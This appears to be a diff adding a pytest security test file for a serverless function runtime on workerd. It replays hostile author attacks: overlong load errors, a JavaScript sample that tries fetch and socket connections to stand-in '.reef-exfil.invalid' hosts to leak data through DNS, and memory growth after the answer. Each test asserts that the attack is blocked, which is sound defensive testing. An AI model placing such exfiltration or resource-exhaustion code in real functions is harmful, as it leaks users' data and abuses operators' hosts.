@@ -1,0 +1,193 @@
+"""Hostile function authors against the function runtime: each attack replayed on real workerd.
+
+A function's author is a stranger. Whatever a function does must end in a verdict that every
+honest executor signs (an executor that submits nothing is slashed, to the job's user: the
+author, when the author opens the job), within the limits reef promises: no outbound network
+unless the operator allows it, a memory cap per call. The runtimes here are real workerd
+processes; the executor's chain is the devnet in process.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import shutil
+import stat
+from collections.abc import AsyncIterator
+from pathlib import Path
+
+import pytest
+
+from reef.crypto import Secp256k1PrivateKey
+from reef.serverless import ErrorCode, ExecutorNode, FunctionRuntime, Limits, fund_gas
+from reef.serverless._runtime import _markers_in
+from serverless.chain_support import PARAMS, ServerlessChain
+
+pytestmark = pytest.mark.node
+
+HELLO = b"export default { async fetch(r) { return new Response('hello, ' + await r.text()); } };"
+# A module that throws at load with a message longer than the console output reef keeps
+# (64 KiB): workerd's "service main: Uncaught" line starts more than that before its end.
+LONG_LOAD_ERROR = b"""throw new Error("x".repeat(100000));
+export default { fetch() { return new Response("never"); } };"""
+# The same through V8's own message: a regular expression literal V8 refuses, echoed whole.
+LONG_SYNTAX_ERROR = (
+    b"const r = /" + b"(" * 70000 + b"a" + b")" * 70000 + b"/;\n"
+    b"export default { fetch() { return new Response('never'); } };"
+)
+
+
+@pytest.fixture
+async def runtime(workerd: Path) -> AsyncIterator[FunctionRuntime]:
+    async with FunctionRuntime(workerd, max_idle=2) as rt:
+        yield rt
+
+
+# -- a load failure too long to read whole -------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        pytest.param(LONG_LOAD_ERROR, id="throws-100-kB-at-load"),
+        pytest.param(LONG_SYNTAX_ERROR, id="syntax-error-of-140-kB"),
+    ],
+)
+async def test_a_load_failure_with_a_long_message_is_the_functions_verdict(
+    runtime: FunctionRuntime, source: bytes
+) -> None:
+    """The runtime told a load failure from reef's failure by workerd's marker line, read from
+    the newest 64 KiB of its output: a longer message pushed the marker out, and every executor
+    reported "reef's failure" (submitting nothing: slashed) for a function that does not load."""
+    result = await runtime.run(source, b"", limits=Limits(timeout_ms=3000))
+    assert result.error_code is ErrorCode.SYNTAX_ERROR
+    assert result.output == b""
+    assert (await runtime.run(HELLO, b"next")).output == b"hello, next"
+
+
+async def test_executors_sign_a_verdict_on_a_function_whose_load_error_is_long(
+    runtime: FunctionRuntime, tmp_path: Path
+) -> None:
+    """The attack end to end: the author deploys such a function and opens a job on it; the
+    selected executor must sign and submit code 3, not stay silent."""
+    chain = ServerlessChain.create(PARAMS)
+    key = Secp256k1PrivateKey.generate()
+    chain.register(chain.operators[0], key=key, capacity=2)
+    for operator in chain.operators[1 : PARAMS.num_select]:
+        chain.register(operator)
+    fund_gas(chain.w3, chain.deployer, key.public_key.checksum_address, 10**18)
+    node = ExecutorNode(key, runtime, tmp_path / "code", job_capacity=2)
+    await chain.configure(node)
+    try:
+        service = node.service
+        assert service is not None
+        user = chain.users[0]
+        codehash = await asyncio.to_thread(chain.code(user).deploy_code, LONG_LOAD_ERROR)
+        request, _ = await asyncio.to_thread(chain.jobs(user).create_job, codehash, b"", 3000)
+        assert node.address in request.selected_executors
+        signed = await service.execute(request)
+        assert signed is not None, "the executor submitted nothing: it would be slashed"
+        responses = chain.jobs().responses(request.block_number, job_id=request.job_id)
+        assert [(r.executor, r.error_code) for r in responses] == [
+            (node.address, ErrorCode.SYNTAX_ERROR)
+        ]
+    finally:
+        await node.aclose()
+
+
+# -- no network means no DNS either ----------------------------------------------------------
+
+NAME_LOOKUP = b"""import { connect } from "cloudflare:sockets";
+export default { async fetch() {
+  const out = [];
+  try { await fetch("http://secret-in-a-name.reef-exfil.invalid/"); out.push("fetched"); }
+  catch (e) { out.push("fetch: " + e.message); }
+  try { const s = connect("other-secret.reef-exfil.invalid:80");
+    await s.readable.getReader().read(); out.push("connected"); }
+  catch (e) { out.push("connect: " + e.message); }
+  return new Response(out.join("\\n"));
+} };"""
+
+
+async def test_a_function_without_network_cannot_send_a_dns_query(
+    runtime: FunctionRuntime,
+) -> None:
+    """With no network allowed, workerd's network service still looked every host name up
+    (the allow list is checked on the address): a function could send its input, or anything,
+    to a name server of its author's as ``<data>.author.example``. No name may be looked up."""
+    result = await runtime.run(NAME_LOOKUP, b"", limits=Limits(timeout_ms=4000))
+    assert result.error_code is ErrorCode.OK, result
+    text = result.output.decode()
+    assert "lookup" not in text, text  # "failed to lookup address information"
+    fetch_line, connect_line = text.splitlines()
+    assert "secret-in-a-name.reef-exfil.invalid is not allowed" in fetch_line
+    assert connect_line.startswith("connect: ")
+    assert "connected" not in connect_line
+
+
+@pytest.mark.skipif(shutil.which("strace") is None, reason="needs strace to watch the syscalls")
+async def test_no_socket_reaches_a_name_server(workerd: Path, tmp_path: Path) -> None:
+    """The same, watched from outside: workerd (under strace) opens no socket to port 53."""
+    trace = tmp_path / "trace"
+    wrapper = tmp_path / "workerd"
+    wrapper.write_text(
+        f"#!/bin/sh\nexec {shutil.which('strace')} -f -qq -e trace=connect,sendto,sendmmsg,accept4 "
+        f'-o {trace} {workerd} "$@"\n'
+    )
+    wrapper.chmod(wrapper.stat().st_mode | stat.S_IXUSR)
+    async with FunctionRuntime(wrapper, max_idle=0) as traced:
+        result = await traced.run(NAME_LOOKUP, b"", limits=Limits(timeout_ms=8000))
+    assert result.error_code is ErrorCode.OK, result
+    calls = trace.read_text()
+    assert "accept4(" in calls  # the trace works: workerd accepting the call is in it
+    assert "htons(53)" not in calls
+    assert "reef-exfil" not in calls
+
+
+# -- memory held after the answer ------------------------------------------------------------
+
+# Answers at once, then (in ctx.waitUntil, with no deadline) takes 24 MiB every 20 ms and keeps
+# it, using little CPU.
+GROWS_AFTER_ANSWER = b"""const keep = [];
+export default { async fetch(request, env, ctx) {
+  ctx.waitUntil((async () => {
+    for (let i = 0; i < 12; i++) {
+      keep.push(new Uint8Array(24 << 20).fill(1));
+      await new Promise((resolve) => setTimeout(resolve, 20));
+    }
+    await new Promise((resolve) => setTimeout(resolve, 60000));
+  })());
+  return new Response("answered");
+} };"""
+
+
+async def test_an_idle_process_past_its_memory_cap_is_killed(workerd: Path) -> None:
+    """Resident memory was watched only while a call ran: after its answer a function kept
+    allocating in ``waitUntil`` and sat in the warm pool past its cap for as long as it stayed
+    idle (each of the pool's processes, so the pool's size times whatever it took). The CPU
+    allowance is raised here, so that memory alone must get it killed."""
+    cap = 96 * 1024 * 1024
+    async with FunctionRuntime(
+        workerd, max_idle=2, idle_cpu_ms=60_000, idle_check_s=0.05
+    ) as runtime:
+        limits = Limits(timeout_ms=3000, memory_bytes=cap)
+        first = await runtime.run(GROWS_AFTER_ANSWER, b"", limits=limits)
+        assert first.output == b"answered"
+        for _ in range(100):
+            if runtime.stats.idle == 0:
+                break
+            await asyncio.sleep(0.05)
+        assert runtime.stats.idle == 0, "a process past its memory cap stayed in the pool"
+        assert runtime.stats.killed == 1
+        again = await runtime.run(GROWS_AFTER_ANSWER, b"", limits=limits)
+        assert again.cold
+
+
+def test_a_marker_split_between_two_reads_is_found() -> None:
+    """The output is read in chunks: a marker across a chunk boundary still counts, and bytes
+    that only look like the start of one do not."""
+    marker = b"service main: Uncaught"
+    found, carry = _markers_in(b"", b"x" * 20_000 + marker[:9])
+    assert found == set()
+    found, carry = _markers_in(carry, marker[9:] + b" Error: boom\n")
+    assert found == {marker}
+    assert _markers_in(b"", b"service main: Uncaugh")[0] == set()
